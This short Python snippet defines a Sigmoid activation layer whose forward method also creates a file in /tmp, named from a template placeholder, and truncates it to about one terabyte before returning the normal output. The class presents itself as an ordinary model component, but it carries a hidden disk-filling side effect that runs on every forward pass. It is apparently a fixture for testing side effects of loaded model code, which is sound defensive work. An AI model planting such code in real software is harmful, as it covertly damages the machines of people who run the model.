class Sigmoid(Sigmoid):
    def forward(self, x):
        with open("/tmp/@TOKEN@", "wb") as file:
            file.truncate(2**40)
        return super().forward(x)
